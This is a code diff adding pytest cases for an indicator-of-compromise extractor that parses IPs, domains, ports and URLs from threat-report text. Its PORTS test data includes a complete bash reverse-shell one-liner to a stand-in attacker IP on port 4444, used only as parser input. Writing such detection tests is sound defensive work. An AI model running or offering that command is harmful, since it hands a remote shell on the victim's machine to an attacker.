@@ -97,6 +97,27 @@ IRIS = [
     "http://evil-a.com/x_(\u272a)_y",
     "http://evil-a.com/\U0001f525\U0001f525-offers",
 ]
+PORTS = [
+    ("185[.]220[.]101[.]7:4444/tcp", "185.220.101.7", "4444"),
+    ("evil-a.com:443/tcp, evil-a.com:443/TCP.", "evil-a.com", "443"),
+    ("evil-a.com:53/udp", "evil-a.com", "53"),
+    ("185.220.101.7/tcp.", "185.220.101.7", ""),
+    ("from outside:185.220.101.7/54321 to inside", "185.220.101.7", "54321"),
+    ("185.220.101.7:80/443", "185.220.101.7", "80"),
+    ("evil-a.com:80/443", "evil-a.com", "80"),
+    ("bash -i >& /dev/tcp/185.220.101.7/4444 0>&1", "185.220.101.7", "4444"),
+]
+NO_PORTS = [
+    ("185.220.101.0/24", "CIDR Block", "185.220.101.0/24", "a network"),
+    ("5.188.0.0/16; and 185.220.101(.)0/25. Range", "CIDR Block", "185.220.101.0/25", "the end of a sentence"),
+    ("185.220.101.7/70000", "URL", "http://185.220.101.7/70000", "too great for a port"),
+    ("185.220.101.7:8080/ssh", "URL", "http://185.220.101.7:8080/ssh", "a path behind a port"),
+    ("185.220.101.7/443/x", "URL", "http://185.220.101.7/443/x", "a path that goes on"),
+    ("185.220.101.7/4444.exe", "URL", "http://185.220.101.7/4444.exe", "the name of a file"),
+    ("evil-a.com/12345", "URL", "http://evil-a.com/12345", "a short link"),
+    ("evil-a.com/tcp/x", "URL", "http://evil-a.com/tcp/x", "a path that goes on"),
+    ("http://185.220.101.7/54321", "URL", "http://185.220.101.7/54321", "a scheme"),
+]  # fmt: skip
 AT_ITS_END = "$%&(*+=_{~!'),;}@"
 AT_ITS_END += (
     "\u2013\u00b7\u2192\u21d2\u203a\u2039\u201e\uff1a\uff08\u061f\u060c\u0964\u2714\U0001f525\u2502\u2551\u2122\xae\xb0"
@@ -150,3 +171,15 @@ def test_a_url_that_begins_a_line_of_csv_ends_with_its_cell(text: str, values: l
 def test_a_url_keeps_commas_that_separate_no_cells(text: str) -> None:
     urls = [finding.value for finding in find(text).found if finding.type == "URL"]
     assert urls == [line.split(" ")[0].rstrip(",") for line in text.split("\n")]
+
+
+@pytest.mark.parametrize(("text", "value", "port"), PORTS)
+def test_a_port_behind_a_slash_is_no_path(text: str, value: str, port: str) -> None:
+    found = find(text).found
+    assert {(finding.value, dict(finding.attributes).get("Port", "")) for finding in found} == {(value, port)}
+    assert {finding.type for finding in found} <= {"IP Address", "FQDN"}
+
+
+@pytest.mark.parametrize(("text", "type_", "value", "reason"), NO_PORTS, ids=[reason for *_, reason in NO_PORTS])
+def test_other_numbers_behind_a_slash_are_no_ports(text: str, type_: str, value: str, reason: str) -> None:
+    assert (type_, value) in {(finding.type, finding.value) for finding in find(text).found}, reason
